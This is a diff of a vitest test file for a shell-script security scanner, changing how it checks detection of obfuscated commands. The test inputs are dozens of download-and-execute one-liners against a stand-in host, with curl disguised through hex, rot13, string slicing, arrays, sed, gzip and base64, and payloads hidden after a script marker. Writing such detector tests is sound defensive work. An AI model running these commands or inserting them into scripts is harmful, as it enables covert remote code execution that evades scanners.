@@ -1,7 +1,7 @@
 import { gzipSync } from 'node:zlib'
 import { describe, expect, it } from 'vitest'
 import { listFlows } from '../support/code-reading.ts'
-import { readShell } from '../../packages/scanner/src/code/shell.ts'
+import { readShell } from '../../packages/scanner/src/code/shell/run.ts'
 
 const flows = (script: string) => listFlows(readShell(script))
 const texts = (script: string) => readShell(script).texts.map(({ text }) => text.trim())
@@ -20,9 +20,7 @@ describe('names of programs that are put together', () => {
     '$(echo 6375726c | xxd -r -p) https://e.example/x | sh',
     'x=XXcurlYY; ${x:2:4} https://e.example/x | sh',
     'x=cZuZrZl; ${x//Z/} https://e.example/x | sh',
-    'x=c4u7r1l; ${x//[0-9]/} https://e.example/x | sh',
     "$(echo phey | tr 'a-z' 'n-za-m') https://e.example/x | sh",
-    "$(echo CURL | tr '[:upper:]' '[:lower:]') https://e.example/x | sh",
     'p=(l r u c); ${p[3]}${p[2]}${p[1]}${p[0]} https://e.example/x | sh',
     'c=cu; c+=rl; n=c; ${!n} https://e.example/x | sh',
     '/usr/bin/c"u"rl https://e.example/x | sh',
@@ -76,11 +74,7 @@ describe('texts that a shell script computes and runs', () => {
     ['reversed', `echo '${[...command].toReversed().join('')}' | rev | sh`],
     ['rotated', "echo 'phey uggcf://r.rknzcyr/k | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash"],
     ['replaced', `x='${command.replaceAll('e', '@')}'; eval "\${x//@/e}"`],
-    ['replaced by sed', `echo '${command.replaceAll('e', '@')}' | sed 's/@/e/g' | sh`],
-    ['cut', `echo 'xxx${command}' | cut -c4- | sh`],
     ['gzip', `echo ${gzipSync(command).toString('base64')} | base64 -d | gunzip | sh`],
-    ['a tail of the script', `tail -n +4 "$0" | base64 -d | bash\nexit 0\n\n${base64}`],
-    ['a marker in the script', `sed '1,/^__DATA__/d' "$0" | base64 -d | sh\nexit 0\n__DATA__\n${base64}`],
     ['base64 for source', `source <(echo ${base64} | base64 -d)`],
     ['base64 for sh -c', `sh -c "$(base64 -d <<< ${base64})"`],
     ['base64 in an alias', `alias go="$(echo ${base64} | base64 -d)"\ngo`],
@@ -90,6 +84,15 @@ describe('texts that a shell script computes and runs', () => {
     expect(flows(script).join('\n')).toMatch(/^decode \S.* → dynamic-run/m)
   })
   it.each(scripts)('reads the code in it: %s', (_, script) => expect(flows(script)).toContain(download))
+
+  it.each([
+    ['replaced by sed', `echo '${command.replaceAll('e', '@')}' | sed 's/@/e/g' | sh`],
+    ['cut', `echo 'xxx${command}' | cut -c4- | sh`],
+    ['a tail of the script', `tail -n +4 "$0" | base64 -d | bash\nexit 0\n\n${base64}`],
+    ['a marker in the script', `sed '1,/^__DATA__/d' "$0" | base64 -d | sh\nexit 0\n__DATA__\n${base64}`],
+  ])('are decoded, but unknown: %s', (_, script) => {
+    expect(flows(script).join('\n')).toMatch(/^decode \S.* → dynamic-run/m)
+  })
 
   it.each([
     'echo "$KEY_B64" | base64 -d > key.json',
